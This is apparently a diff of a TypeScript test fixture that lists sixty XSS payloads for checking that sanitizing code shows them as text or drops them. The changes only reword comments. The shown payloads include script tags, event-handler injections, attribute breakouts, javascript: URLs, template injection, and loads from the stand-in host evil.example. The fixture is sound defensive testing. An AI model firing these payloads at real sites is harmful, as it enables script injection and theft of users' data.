@@ -1,14 +1,14 @@
 /**
- * Sixty texts that try to run in a page. Each, if it runs, sets `window.hacked`, opens a dialog or asks for something on
- * evil.example; a test watches for all three. They are data: what they are fed to shows them as text or drops them.
+ * Sixty texts that try to run code in a page. Each, if it runs, sets `window.hacked`, opens a dialog or requests something from
+ * evil.example; a test watches for all three. They are data: the code under test shows them as text or drops them.
  */
 
-/** What a payload does where it can run a statement. */
+/** The statement that a payload runs. */
 const run = 'window.hacked=1';
 
 /** The payloads, sixty of them. */
 export const xssPayloads: string[] = [
-  // Elements that run by themselves.
+  // Elements that run code by themselves.
   `<script>${run}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `<script/x>${run}</script>`,
@@ -51,7 +51,7 @@ export const xssPayloads: string[] = [
   `<form action="https://evil.example/"><input type=submit autofocus></form>`,
   `<template><img src=x onerror=${run}></template>`,
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
-  // Out of an attribute.
+  // Breaking out of an attribute.
   `"><img src=x onerror=${run}>`,
   `'><svg onload=${run}>`,
   `" onmouseover="${run}" autofocus onfocus="${run}`,
@@ -69,7 +69,7 @@ export const xssPayloads: string[] = [
   `vbscript:msgbox(1)`,
   `//evil.example/pixel.png`,
   `https://evil.example/pixel.png`,
-  // Templates, and text that pretends to be another kind.
+  // Templates, and texts of another syntax.
   `{{constructor.constructor("${run}")()}}`,
   `\${${run}}`,
 ];
